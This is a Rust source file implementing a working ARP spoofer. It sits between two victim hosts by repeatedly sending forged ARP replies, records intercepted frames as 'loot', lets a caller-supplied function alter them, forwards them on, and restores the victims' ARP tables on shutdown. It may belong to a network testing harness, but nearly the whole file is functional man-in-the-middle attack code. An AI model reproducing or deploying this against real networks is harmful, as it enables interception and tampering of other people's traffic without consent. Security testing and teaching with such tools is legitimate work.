//! An ARP spoofer: a machine on a shared network that makes two others believe that it is the other one, and then reads,
//! changes and forwards what they send each other.

use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use crate::background::{Background, End};
use crate::frame::{self, BROADCAST, Mac};
use crate::host::Host;
use crate::packet_socket::PacketSocket;
use crate::wait;

/// What it does to the frames it has got hold of.
pub type Tamper = fn(&mut [u8]) -> bool;

/// A running ARP spoofer between two victims.
pub struct ArpSpoofer {
    loot: Arc<Mutex<Loot>>,
    _worker: Background,
}

/// What it has got.
#[derive(Clone, Default)]
pub struct Loot {
    /// The frames that it read on their way, up to some number.
    pub frames: Vec<Vec<u8>>,
    /// How many it changed.
    pub tampered: u64,
}

impl ArpSpoofer {
    /// Puts itself between two victims on the network of `interface`. `tamper` is called for each frame, and says whether it
    /// changed it.
    #[track_caller]
    pub fn start(host: &Host, interface: &str, victims: [Ipv4Addr; 2], tamper: Tamper) -> ArpSpoofer {
        let socket = PacketSocket::open(host, interface);
        let loot = Arc::<Mutex<Loot>>::default();
        let worker = Worker { socket, victims, macs: [None; 2], tamper, loot: loot.clone() };
        let worker = Background::new(|end| std::thread::spawn(move || worker.run(&end)));
        ArpSpoofer { loot, _worker: worker }
    }

    /// What it has got so far.
    pub fn loot(&self) -> Loot {
        lock(&self.loot).clone()
    }
}

fn lock(loot: &Mutex<Loot>) -> MutexGuard<'_, Loot> {
    loot.lock().unwrap_or_else(PoisonError::into_inner)
}

struct Worker {
    socket: PacketSocket,
    victims: [Ipv4Addr; 2],
    /// The true hardware addresses of the victims, once they have answered.
    macs: [Option<Mac>; 2],
    tamper: Tamper,
    loot: Arc<Mutex<Loot>>,
}

/// Often enough to win against the victims' own address resolution.
const LIE_INTERVAL: Duration = Duration::from_millis(50);

const MAX_LOOT: usize = 20_000;

impl Worker {
    fn run(mut self, end: &End) {
        let mut next_lie = wait::now();
        while !end.has_come() {
            if wait::now() >= next_lie {
                self.lie();
                next_lie += LIE_INTERVAL;
            }
            PacketSocket::wait(&[&self.socket], time_until(next_lie));
            while let Some(frame) = self.socket.receive() {
                self.handle_frame(frame);
            }
        }
        self.make_good();
    }

    /// Tells each victim that the other one's address is here; asks first, while it does not know where they are.
    fn lie(&self) {
        for (victim, other) in [(0, 1), (1, 0)] {
            let frame = match self.macs[victim] {
                None => self.arp(ARP_REQUEST, BROADCAST, self.victims[other], self.victims[victim]),
                Some(mac) => self.arp(ARP_REPLY, mac, self.victims[other], self.victims[victim]),
            };
            self.socket.send(&frame);
        }
    }

    fn handle_frame(&mut self, frame: Vec<u8>) {
        if frame.len() < 34 || frame[..6] != self.socket.mac() {
            return;
        }
        match frame::content(&frame) {
            frame::Content::Arp => self.learn(&frame),
            frame::Content::Other(_) => (),
            _ => self.forward(frame),
        }
    }

    fn learn(&mut self, arp: &[u8]) {
        let (mac, address) = (arp[22..28].first_chunk(), arp[28..32].first_chunk::<4>());
        for (victim, known) in self.victims.iter().zip(&mut self.macs) {
            if address.is_some_and(|address| *address == victim.octets()) {
                *known = mac.copied();
            }
        }
    }

    fn forward(&self, mut frame: Vec<u8>) {
        let destination = &frame[30..34];
        let Some(to) = self.victims.iter().position(|victim| destination == victim.octets()) else { return };
        let Some(mac) = self.macs[to] else { return };
        let mut loot = lock(&self.loot);
        if loot.frames.len() < MAX_LOOT {
            loot.frames.push(frame.clone());
        }
        loot.tampered += u64::from((self.tamper)(&mut frame));
        drop(loot);
        frame::fix_checksum(&mut frame);
        frame[..6].copy_from_slice(&mac);
        frame[6..12].copy_from_slice(&self.socket.mac());
        self.socket.send(&frame);
    }

    /// Tells the victims the truth, so that they find each other when this is gone.
    fn make_good(&self) {
        let [Some(first), Some(second)] = self.macs else { return };
        for (to, to_mac, about, about_mac) in [(0, first, 1, second), (1, second, 0, first)] {
            let mut frame = self.arp(ARP_REPLY, to_mac, self.victims[about], self.victims[to]);
            frame[22..28].copy_from_slice(&about_mac);
            self.socket.send(&frame);
        }
    }

    /// "`sender` is at my hardware address", to `target`.
    fn arp(&self, operation: u8, to: Mac, sender: Ipv4Addr, target: Ipv4Addr) -> Vec<u8> {
        let mac = self.socket.mac();
        let mut frame = [to, mac].concat();
        frame.extend([0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, operation]);
        frame.extend(mac);
        frame.extend(sender.octets());
        frame.extend(to);
        frame.extend(target.octets());
        frame
    }
}

const ARP_REQUEST: u8 = 1;
const ARP_REPLY: u8 = 2;

fn time_until(then: Instant) -> Duration {
    then.saturating_duration_since(wait::now())
}
